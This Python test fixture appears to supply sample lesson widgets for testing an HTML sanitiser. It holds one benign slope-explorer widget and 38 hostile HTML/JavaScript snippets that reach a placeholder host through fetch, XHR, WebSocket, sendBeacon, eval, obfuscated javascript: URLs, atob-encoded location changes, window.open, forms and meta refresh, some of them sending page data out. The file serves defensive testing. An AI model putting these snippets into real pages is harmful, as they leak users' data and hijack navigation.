"""Lesson widgets as a model could write them: one that works, and hostile ones (the 18 of
the first review and the 20 navigations of the second).

`@OUT@` stands for where a widget tries to reach (a URL without a trailing slash) and
`@HOST@` for its host and port: the unit tests put a name that is never loaded there, the
browser tests a listener on 127.0.0.1 that records what reaches it."""

from __future__ import annotations

from dataclasses import dataclass

GOOD = """<!doctype html><html><head><title>Slope explorer</title>
<style>body { font-family: sans-serif; }
.bar { background: url(data:image/png;base64,AAAA); }</style>
</head><body>
<label for="h">h</label><input id="h" type="range" min="1" max="100" oninput="update()">
<output id="out"></output>
<svg width="100" height="50"><line x1="0" y1="50" x2="100" y2="0" stroke="black"/></svg>
<script>
function update() {
  const h = document.getElementById("h").value / 100;
  document.getElementById("out").textContent = ((Math.pow(1 + h, 2) - 1) / h).toFixed(3);
}
</script></body></html>"""


@dataclass(frozen=True, slots=True)
class Hostile:
    name: str
    source: str
    refused: str | None = None  # the sanitiser's reason when it refuses the widget outright
    # False where even a bare page (opened from a file, no frame) sends nothing: CSS
    # expressions are dead, "//host" from a file is no web address, and nothing at all.
    gets_out_bare: bool = True

    def aimed_at(self, out: str) -> str:
        host = out.split("://", 1)[-1]
        return self.source.replace("@OUT@", out).replace("@HOST@", host)


FIRST_REVIEW = [
    Hostile("script-src", '<script src="@OUT@/x.js"></script><p>hi</p>', "external script"),
    Hostile(
        "script-src-relative-scheme",
        '<script src="//@HOST@/x.js"></script>',
        "external script",
        gets_out_bare=False,
    ),
    Hostile("svg-script-href", "<svg><script href='x.js'></script></svg>", "external script"),
    Hostile("fetch", "<script>fetch('@OUT@/?q=' + document.title)</script>"),
    Hostile(
        "xhr", "<script>var x = new XMLHttpRequest(); x.open('GET', '@OUT@/xhr'); x.send()</script>"
    ),
    Hostile("websocket", "<script>const s = new WebSocket('ws://@HOST@/ws')</script>"),
    Hostile("dynamic-import", "<script>import('@OUT@/m.js')</script>"),
    Hostile("module-import", "<script type=module>import x from '@OUT@/m.js'</script>"),
    Hostile("send-beacon", "<script>navigator.sendBeacon('@OUT@/beacon', 'y')</script>"),
    Hostile("eval", "<script>eval(\"fetch('@OUT@/eval')\")</script>"),
    Hostile("location-href", "<script>window.location.href = '@OUT@/nav'</script>"),
    Hostile("onclick-fetch", "<button onclick=\"fetch('@OUT@/steal')\">go</button>"),
    Hostile(
        "javascript-url", "<a href=\"javascript:location='@OUT@/js'\">x</a>", "javascript: URL"
    ),
    Hostile(
        "javascript-url-entity",
        "<a href=\"java&#115;cript:location='@OUT@/js'\">x</a>",
        "javascript: URL",
    ),
    Hostile(
        "javascript-url-case",
        "<a href=\" JaVaScRiPt:location='@OUT@/js'\">x</a>",
        "javascript: URL",
    ),
    Hostile(
        "css-expression",
        '<div style="width: expression(alert(1))">x</div>',
        "CSS runs code",
        gets_out_bare=False,
    ),
    Hostile("empty", "", "no content", gets_out_bare=False),
    Hostile("too-large", "x" * 200_001, "larger than", gets_out_bare=False),
]

_CLICK = "document.body.appendChild(a); a.click()"
_DISPATCH = "dispatchEvent(new MouseEvent('click', {bubbles: true}))"

# Each navigates, opens a window, submits or downloads; "clicked" ones wait for the student.
SECOND_REVIEW = [
    Hostile("location-by-concatenation", "<script>window['loc' + 'ation'] = '@OUT@/n1'</script>"),
    Hostile("bare-open", "<script>open('@OUT@/n2')</script>"),
    Hostile("self-open", "<script>self.open('@OUT@/n3')</script>"),
    Hostile(
        "created-link-clicked",
        f"<script>var a = document.createElement('a'); a.href = '@OUT@/n4'; {_CLICK}</script>",
    ),
    Hostile("document-location-href", "<script>document['location'].href = '@OUT@/n5'</script>"),
    Hostile(
        "written-link-clicked",
        '<script>document.write(\'<a id="n6" href="@OUT@/n6">go</a>\');'
        "document.getElementById('n6').click()</script>",
    ),
    Hostile("top-location", "<script>top['loc' + 'ation'] = '@OUT@/n7'</script>"),
    Hostile("parent-location-replace", "<script>parent.location.replace('@OUT@/n8')</script>"),
    Hostile(
        "created-link-new-window",
        "<script>var a = document.createElement('a'); a.href = '@OUT@/n9';"
        f" a.target = '_blank'; {_CLICK}</script>",
    ),
    Hostile(
        "created-link-top-dispatched",
        "<script>var a = document.createElement('a'); a.href = '@OUT@/n10'; a.target = '_top';"
        f" document.body.appendChild(a); a.{_DISPATCH}</script>",
    ),
    Hostile(
        "open-by-concatenation", "<script>globalThis['op' + 'en']('@OUT@/n11', '_top')</script>"
    ),
    Hostile("open-reflected", "<script>Reflect.apply(window.open, window, ['@OUT@/n12'])</script>"),
    Hostile(
        "written-meta-refresh",
        "<script>document.write('<meta http-equiv=\"refresh\"'"
        " + ' content=\"0;url=@OUT@/n13\">')</script>",
    ),
    Hostile(
        "created-form-submitted",
        "<script>var f = document.createElement('form'); f.action = '@OUT@/n14';"
        " f.method = 'post'; f.target = '_top'; document.body.appendChild(f); f.submit()</script>",
    ),
    Hostile(
        "form-clicked",
        '<form action="@OUT@/n15" method="get"><input name="q" value="x">'
        "<button>send</button></form>",
    ),
    Hostile("link-clicked", '<a href="@OUT@/n16" target="_blank">more</a>'),
    Hostile("navigation-api", "<script>navigation.navigate('@OUT@/n17')</script>"),
    Hostile(
        "location-later-by-atob",
        "<script>setTimeout(() => { window[atob('bG9jYXRpb24=')] = '@OUT@/n18' }, 50)</script>",
    ),
    Hostile(
        "svg-link-dispatched",
        "<div id=s></div><script>document.getElementById('s').innerHTML = '<svg>"
        '<a href="@OUT@/n19" target="_top"><rect id="r" width="9" height="9"/></a></svg>\';'
        f" document.getElementById('r').{_DISPATCH}</script>",
    ),
    Hostile(
        "download-link-clicked",
        "<script>var a = document.createElement('a'); a.href = '@OUT@/n20'; a.download = 'x';"
        f" {_CLICK}</script>",
    ),
]

ALL = FIRST_REVIEW + SECOND_REVIEW
